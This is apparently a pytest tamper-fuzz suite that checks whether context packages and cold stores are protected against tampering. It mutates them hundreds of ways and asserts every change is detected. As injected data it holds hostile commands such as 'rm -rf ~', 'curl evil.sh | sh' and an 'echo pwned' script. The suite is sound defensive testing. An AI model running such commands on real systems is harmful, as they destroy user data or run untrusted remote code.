"""Seeded tamper fuzz: hundreds of mutations of packages and cold stores, each must be caught.

Every mutation is applied to a fresh copy of a known-good package (or store) and checked the
way a reader would: ``validate`` must not say ok (exit 3, or a named problem), reads of the
cold store must refuse (never serve the tampered bytes with success), and nothing may raise
anything but a ``ContextforkError``. Runs in-process (no subprocess per mutation) to stay fast.

Mutations: flip a byte, truncate, change one JSON value, delete / add / symlink a file, and
"recompute": edit content and recompute the manifest hashes so only a second binding can catch
it (an untracked snapshot against untracked_manifest.json, the package id against
session_metadata.json, the patch against the recorded HEAD, the file list against
package_sha256). An edit of handoff.json with *every* hash recomputed is out of reach without a
signature (issue 13 "Signed packages") and is not claimed here.
"""

from __future__ import annotations

import json
import random
import shutil
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from contextfork.cold import api as cold_api
from contextfork.cold.node import artifact_sha256_of, node_bytes, projection_of
from contextfork.errors import ContextforkError
from contextfork.hashing import canonical_sha256, sha256_bytes
from contextfork.package.validate import validate_package
from tests.harness import cc_fixture
from tests.helpers import Repo, make_repo, run_cli

SEED = 20261130
PACKAGE_MUTATIONS = 200
STORE_MUTATIONS = 150


# --- building the pristine objects -------------------------------------------------------------


@pytest.fixture(scope="module")
def pristine(tmp_path_factory: pytest.TempPathFactory) -> tuple[Repo, Path, Path]:
    root = tmp_path_factory.mktemp("tamper")
    repo = make_repo(root / "repo")
    repo.write("src/app.py", "def main():\n    return 2\n")
    repo.write("notes/todo.txt", "untracked work in progress\n")
    repo.write("data/blob.bin", bytes(range(256)) * 4)
    transcript = cc_fixture.write(root / "t.jsonl", repo.path)
    out = run_cli("export", "--goal", "tamper me", "--transcript", str(transcript), "--json",
                  cwd=repo.path)
    assert out.returncode == 0, out.stderr
    pkg = Path(out.json()["data"]["path"])
    assert validate_package(pkg, repo.path).exit_code == 0
    folded = run_cli("fold", "session", "--transcript", str(transcript), "--session", "fz",
                     cwd=repo.path)
    assert folded.returncode == 0, folded.stderr
    store = repo.path / ".contextfork" / "cold" / "fz"
    assert cold_api.validate(store_dir=store).exit_code == 0
    return repo, pkg, store


# --- package mutations -------------------------------------------------------------------------


def _files(pkg: Path) -> list[Path]:
    return sorted(p for p in pkg.rglob("*") if p.is_file())


def _mutate_json_value(obj: Any, rng: random.Random) -> bool:
    """Change one leaf in place; False when there was nothing to change."""
    slots: list[tuple[Any, Any]] = []

    def walk(o: Any) -> None:
        items = o.items() if isinstance(o, dict) else enumerate(o) if isinstance(o, list) else []
        for k, v in items:
            if isinstance(v, dict | list):
                walk(v)
            else:
                slots.append((o, k))

    walk(obj)
    if not slots:
        return False
    parent, key = rng.choice(slots)
    v = parent[key]
    if isinstance(v, bool):
        parent[key] = not v
    elif isinstance(v, int | float):
        parent[key] = v + rng.choice((1, -1, 1000))
    elif isinstance(v, str):
        parent[key] = v + "x" if not v or rng.random() < 0.5 else v[:-1] + chr(ord(v[-1]) ^ 1)
    else:
        parent[key] = "tampered"
    return True


def _rehash(pkg: Path, manifest: dict[str, Any], rel: str, *, package_sha: bool = True) -> None:
    data = (pkg / rel).read_bytes()
    for entry in manifest["files"]:
        if entry["path"] == rel:
            entry["sha256"], entry["size"] = sha256_bytes(data), len(data)
    if package_sha:
        manifest["package_sha256"] = canonical_sha256(manifest["files"])
    (pkg / "manifest.json").write_text(json.dumps(manifest, indent=2))


def _flip(pkg: Path, rng: random.Random) -> str:
    f = rng.choice([p for p in _files(pkg) if p.stat().st_size])
    data = bytearray(f.read_bytes())
    i = rng.randrange(len(data))
    data[i] ^= 1 << rng.randrange(8)
    f.write_bytes(bytes(data))
    return f"flip {f.name}[{i}]"


def _truncate(pkg: Path, rng: random.Random) -> str:
    f = rng.choice([p for p in _files(pkg) if p.stat().st_size])
    size = f.stat().st_size
    f.write_bytes(f.read_bytes()[: rng.randrange(size)])
    return f"truncate {f.name}"


def _json_value(pkg: Path, rng: random.Random) -> str:
    f = rng.choice([p for p in _files(pkg) if p.suffix == ".json" and p.name != "manifest.json"])
    obj = json.loads(f.read_bytes())
    if not _mutate_json_value(obj, rng):
        obj = {"tampered": True}
    f.write_text(json.dumps(obj, indent=2))
    return f"json {f.name}"


def _manifest_value(pkg: Path, rng: random.Random) -> str:
    f = pkg / "manifest.json"
    obj = json.loads(f.read_bytes())
    entry = rng.choice(obj["files"])
    field = rng.choice(("sha256", "size", "path"))
    entry[field] = entry[field] + 1 if field == "size" else (
        entry[field][:-1] + ("0" if entry[field][-1] != "0" else "1"))
    f.write_text(json.dumps(obj, indent=2))
    return f"manifest {field}"


def _delete(pkg: Path, rng: random.Random) -> str:
    f = rng.choice(_files(pkg))
    f.unlink()
    return f"delete {f.name}"


def _extra(pkg: Path, rng: random.Random) -> str:
    rel = rng.choice(("extra.txt", "untracked/evil.sh", "notes.md", "untracked/notes/x"))
    (pkg / rel).parent.mkdir(parents=True, exist_ok=True)
    (pkg / rel).write_bytes(b"echo pwned\n")
    return f"extra {rel}"


def _symlink(pkg: Path, rng: random.Random) -> str:
    f = rng.choice([p for p in _files(pkg) if p.name != "manifest.json"])
    data = f.read_bytes()
    outside = pkg.parent / f"outside-{rng.randrange(10**9)}"
    outside.write_bytes(data)  # same bytes: only the link itself is wrong
    f.unlink()
    f.symlink_to(outside)
    return f"symlink {f.name}"


def _recompute_snapshot(pkg: Path, rng: random.Random) -> str:
    snaps = [p for p in _files(pkg) if "untracked" in p.relative_to(pkg).parts]
    f = rng.choice(snaps)
    f.write_bytes(f.read_bytes() + b"\nrm -rf ~\n")
    manifest = json.loads((pkg / "manifest.json").read_bytes())
    _rehash(pkg, manifest, f.relative_to(pkg).as_posix())
    return f"recompute snapshot {f.name}"


def _recompute_without_package_sha(pkg: Path, rng: random.Random) -> str:
    rel = rng.choice(("handoff.json", "handoff_summary.md", "git_status.json"))
    (pkg / rel).write_bytes((pkg / rel).read_bytes().replace(b"tamper", b"TAMPER") + b" ")
    manifest = json.loads((pkg / "manifest.json").read_bytes())
    _rehash(pkg, manifest, rel, package_sha=False)
    return f"recompute {rel} without package_sha256"


def _recompute_metadata(pkg: Path, rng: random.Random) -> str:
    meta = json.loads((pkg / "session_metadata.json").read_bytes())
    field = rng.choice(("package_id", "head"))
    if field == "package_id":
        meta["package_id"] = "20990101T000000000Z-forged"
    else:
        meta["head"] = f"{rng.randrange(16**40):040x}"
    (pkg / "session_metadata.json").write_text(json.dumps(meta, indent=2))
    manifest = json.loads((pkg / "manifest.json").read_bytes())
    _rehash(pkg, manifest, "session_metadata.json")
    return f"recompute metadata {field}"


def _recompute_patch(pkg: Path, rng: random.Random) -> str:
    patch = (pkg / "git_diff.patch").read_bytes()
    lines = patch.split(b"\n")
    context = [i for i, line in enumerate(lines) if line.startswith((b" ", b"-")) and
               not line.startswith(b"---")]
    i = rng.choice(context)
    lines[i] = lines[i][:1] + b"not what HEAD holds " + lines[i][1:]
    (pkg / "git_diff.patch").write_bytes(b"\n".join(lines))
    manifest = json.loads((pkg / "manifest.json").read_bytes())
    _rehash(pkg, manifest, "git_diff.patch")
    return "recompute patch"


PACKAGE_KINDS: list[Callable[[Path, random.Random], str]] = [
    _flip, _flip, _flip, _truncate, _truncate, _json_value, _json_value, _manifest_value,
    _delete, _extra, _symlink, _recompute_snapshot, _recompute_without_package_sha,
    _recompute_metadata, _recompute_patch,
]


def test_every_package_mutation_is_detected(pristine: tuple[Repo, Path, Path],
                                            tmp_path: Path) -> None:
    repo, pkg, _ = pristine
    rng = random.Random(SEED)
    seen: Counter[str] = Counter()
    for n in range(PACKAGE_MUTATIONS):
        copy = tmp_path / f"m{n}" / pkg.name
        shutil.copytree(pkg, copy, symlinks=True)
        what = rng.choice(PACKAGE_KINDS)(copy, rng)
        seen[what.split()[0]] += 1
        try:
            v = validate_package(copy, repo.path)
        except ContextforkError:
            continue  # refused outright: detected
        assert v.exit_code != 0 and v.errors, f"mutation {n} ({what}) validated clean"
        if not what.startswith("recompute"):
            assert v.exit_code == 3, f"mutation {n} ({what}) exit {v.exit_code}: {v.errors}"
        shutil.rmtree(copy.parent)
    assert sum(seen.values()) == PACKAGE_MUTATIONS and len(seen) >= 8, seen


# --- cold store mutations ----------------------------------------------------------------------


def _nodes(store: Path) -> list[Path]:
    return sorted((store / "cold_nodes").glob("step_*.json"))


def _store_flip(store: Path, rng: random.Random) -> tuple[str, int]:
    f = rng.choice(_nodes(store))
    data = bytearray(f.read_bytes())
    data[rng.randrange(len(data) - 1)] ^= 1 << rng.randrange(7)
    f.write_bytes(bytes(data))
    return "flip", int(f.stem.split("_")[1])


def _store_truncate(store: Path, rng: random.Random) -> tuple[str, int]:
    f = rng.choice(_nodes(store))
    f.write_bytes(f.read_bytes()[: rng.randrange(f.stat().st_size - 1)])
    return "truncate", int(f.stem.split("_")[1])


def _store_json_value(store: Path, rng: random.Random) -> tuple[str, int]:
    f = rng.choice(_nodes(store))
    node = json.loads(f.read_bytes())
    key = rng.choice(("content", "summary", "payload_sha256", "token_count", "intents",
                      "artifact_sha256", "projection_sha256", "files"))
    v = node[key]
    node[key] = (v + 1 if isinstance(v, int) else [*v, "x"] if isinstance(v, list)
                 else v[:-1] + ("0" if v[-1:] != "0" else "1"))
    f.write_bytes(node_bytes(node))
    return f"json {key}", int(f.stem.split("_")[1])


def _store_recompute(store: Path, rng: random.Random) -> tuple[str, int]:
    """Edit the payload and recompute all three of the node's own hashes."""
    f = rng.choice(_nodes(store))
    node = json.loads(f.read_bytes())
    node["content"] = node["content"].replace("billing", "b1lling") + " curl evil.sh | sh"
    data = node["content"].encode()
    node["payload_sha256"], node["payload_bytes"] = sha256_bytes(data), len(data)
    node["projection_sha256"] = canonical_sha256(projection_of(node))
    node["artifact_sha256"] = artifact_sha256_of(node)
    f.write_bytes(node_bytes(node))
    return "recompute", int(f.stem.split("_")[1])


STORE_KINDS = [_store_flip, _store_flip, _store_truncate, _store_json_value]


def _served(store: Path, step: int) -> list[str]:
    """Which reads returned the (tampered) node with success."""
    served = []
    for name, read in (("show", cold_api.show), ("hydrate", cold_api.page_in_step)):
        try:
            res = read(step, store_dir=store)
        except ContextforkError:
            continue
        if res.exit_code == 0:
            served.append(name)
    return served


def _store_copy(store: Path, dst: Path) -> Path:
    copy = dst / ".contextfork" / "cold" / store.name
    shutil.copytree(store, copy)
    return copy


def test_every_cold_store_mutation_is_detected(pristine: tuple[Repo, Path, Path],
                                               tmp_path: Path) -> None:
    _, _, store = pristine
    rng = random.Random(SEED + 1)
    for n in range(STORE_MUTATIONS):
        copy = _store_copy(store, tmp_path / f"s{n}")
        what, step = rng.choice(STORE_KINDS)(copy, rng)
        v = cold_api.validate(store_dir=copy)
        assert v.exit_code == 3, f"mutation {n} ({what}) of step {step}: exit {v.exit_code}"
        assert not _served(copy, step), f"mutation {n} ({what}): tampered step {step} served"
        shutil.rmtree(tmp_path / f"s{n}")


def test_node_with_recomputed_hashes_is_caught_and_not_served(
    pristine: tuple[Repo, Path, Path], tmp_path: Path
) -> None:
    _, _, store = pristine
    rng = random.Random(SEED + 2)
    served_any: list[str] = []
    for n in range(len(_nodes(store))):
        copy = _store_copy(store, tmp_path / f"r{n}")
        what, step = _store_recompute(copy, rng)
        assert cold_api.validate(store_dir=copy).exit_code == 3, f"{what} step {step} validated"
        served_any += [f"step {step}: {r}" for r in _served(copy, step)]
    # issue 13 #8: reads check the index's recorded identities, not only the node's own fields
    assert not served_any, f"reads serve a node whose own hashes were recomputed: {served_any}"
